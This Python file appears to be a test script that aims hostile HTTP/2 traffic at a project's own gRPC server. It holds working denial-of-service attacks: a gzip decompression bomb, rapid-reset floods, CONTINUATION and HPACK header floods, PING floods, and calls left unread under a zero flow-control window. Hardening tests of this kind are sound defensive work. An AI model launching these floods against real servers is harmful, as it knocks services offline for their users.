#!/usr/bin/python3
"""What a hostile client sends to lucernad.  Each attack returns its connections.

    tests/server/http2_attacks.py ATTACK PORT SCENE

SCENE is the id of a loaded scene.  The program ends after the attack, and closes its connections.
"""
import gzip
import struct
import sys
import time

from http2_frames import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, Connection, frame,
                          headers_of, literal)

IRRADIANCE = "/lucerna.v1.LightingService/EstimateIrradiance"
SAMPLE_LE = "/lucerna.v1.LightingService/SampleLe"
RENDER_IMAGE = "/lucerna.v1.RenderService/RenderImage"
UPLOAD = "/lucerna.v1.SceneService/UploadAsset"
HEALTH_CHECK, HEALTH_WATCH = "/grpc.health.v1.Health/Check", "/grpc.health.v1.Health/Watch"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
UNKNOWN = "/no.such/Call"
CANCELLED = struct.pack(">I", 8)
MOST_RESETS, MOST_BYTES = 1000000, 1 << 30
HELD_S = 5  # how long an attack that only waits holds what it has


def message(data, packed=0):
    return bytes((packed,)) + struct.pack(">I", len(data)) + data


def call(client, path, *more):
    """Begins a call.  Returns the frame."""
    return frame(HEADERS, END_HEADERS, client.stream(), headers_of(path, *more))


def ask(client, path, request):
    """A call with its request, as frames."""
    return call(client, path) + frame(DATA, END_STREAM, client.next - 2, message(request))


def packed_message(port, _scene=None):
    """1 MB that unpack to 1 GiB."""
    client, data = Connection(port), message(gzip.compress(bytes(1 << 30)), 1)
    client.send(call(client, IRRADIANCE, ("grpc-encoding", "gzip")))
    for i in range(0, len(data), 16384):
        client.send(frame(DATA, 0, client.next - 2, data[i:i + 16384]))
    client.send(frame(DATA, END_STREAM, client.next - 2))
    return [client]


def resets(path):
    def attack(port, _scene=None):
        """Calls that are reset at once, until the server closes the connection."""
        client = Connection(port)
        while not client.closed and client.next < 2 * MOST_RESETS:
            calls = (call(client, path) + frame(RST_STREAM, 0, client.next - 2, CANCELLED) for _ in range(100))
            client.send(b"".join(calls))
        return [client]
    return attack


def reflection(port, _scene=None):
    """2000 streams of reflection that ask nothing."""
    clients = [Connection(port) for _ in range(4)]
    for client in clients:
        client.send(b"".join(call(client, REFLECTION) for _ in range(500)))
    return clients


def half_messages(port, _scene=None):
    """60 calls of one connection send half of 60 MB."""
    client = Connection(port)
    for _ in range(60):
        client.send(call(client, IRRADIANCE) + frame(DATA, 0, client.next - 2, b"\0" + struct.pack(">I", 60 << 20)))
    client.send_data(range(1, client.next, 2), 30 << 20)
    return [client]


def headers_without_end(first, block, count, requests=0):
    def attack(port, _scene=None):
        """CONTINUATION frames until the server closes the connection, beside requests that have begun."""
        client, sent = Connection(port), 0
        client.send(b"".join(call(client, IRRADIANCE) for _ in range(requests)))
        client.send(frame(HEADERS, 0, client.stream(), headers_of(IRRADIANCE) + first))
        frames = frame(CONTINUATION, 0, client.next - 2, block) * count
        while sent < MOST_BYTES and client.send(frames):
            sent += len(frames)
        return [client]
    return attack


def pings(port, _scene=None):
    """PING frames until the server closes the connection."""
    client, sent = Connection(port), 0
    frames = frame(PING, 0, 0, bytes(8)) * 1000
    while sent < MOST_BYTES and client.send(frames):
        sent += len(frames)
    return [client]


def unread(path, rest, count):
    def attack(port, scene):
        """Calls whose answers nobody takes."""
        client = Connection(port, window=0)
        for _ in range(count):
            client.send(ask(client, path, b"\x0a\x40" + scene.encode() + rest))
        return [client]
    return attack


ATTACKS = {
    "packed_message": packed_message,
    "resets": resets(IRRADIANCE),
    "resets_of_pictures": resets(RENDER_IMAGE),
    "resets_of_uploads": resets(UPLOAD),
    "resets_of_checks": resets(HEALTH_CHECK),
    "resets_of_watches": resets(HEALTH_WATCH),
    "resets_of_reflection": resets(REFLECTION),
    "resets_of_unknown_calls": resets(UNKNOWN),
    "reflection": reflection,
    "half_messages": half_messages,
    "many_headers": headers_without_end(b"", literal("x-a", "b" * 100) * 150, 50),
    "empty_frames_of_headers": headers_without_end(b"", b"", 20000),
    # of 1 GiB
    "long_header": headers_without_end(b"\0\3x-a\x7f\x81\xff\xff\xff\x03", b"b" * 16000, 50),
    # Each byte is a header.  120 of them are within gRPC's limit, which counts by frame.
    "referring_headers": headers_without_end(b"\x40" + literal("x-a", "b" * 100)[1:], b"\xbe" * 120, 5000, 3),
    "pings": pings,
    # count = 65536: 4 MB
    "unread_samples": unread(SAMPLE_LE, b"\x18\x80\x80\x04", 200),
    "unread_pictures": unread(RENDER_IMAGE, b"", 24),
}

if __name__ == "__main__":
    KEPT = ATTACKS[sys.argv[1]](int(sys.argv[2]), sys.argv[3])
    time.sleep(HELD_S)
    for connection in KEPT:
        connection.socket.close()
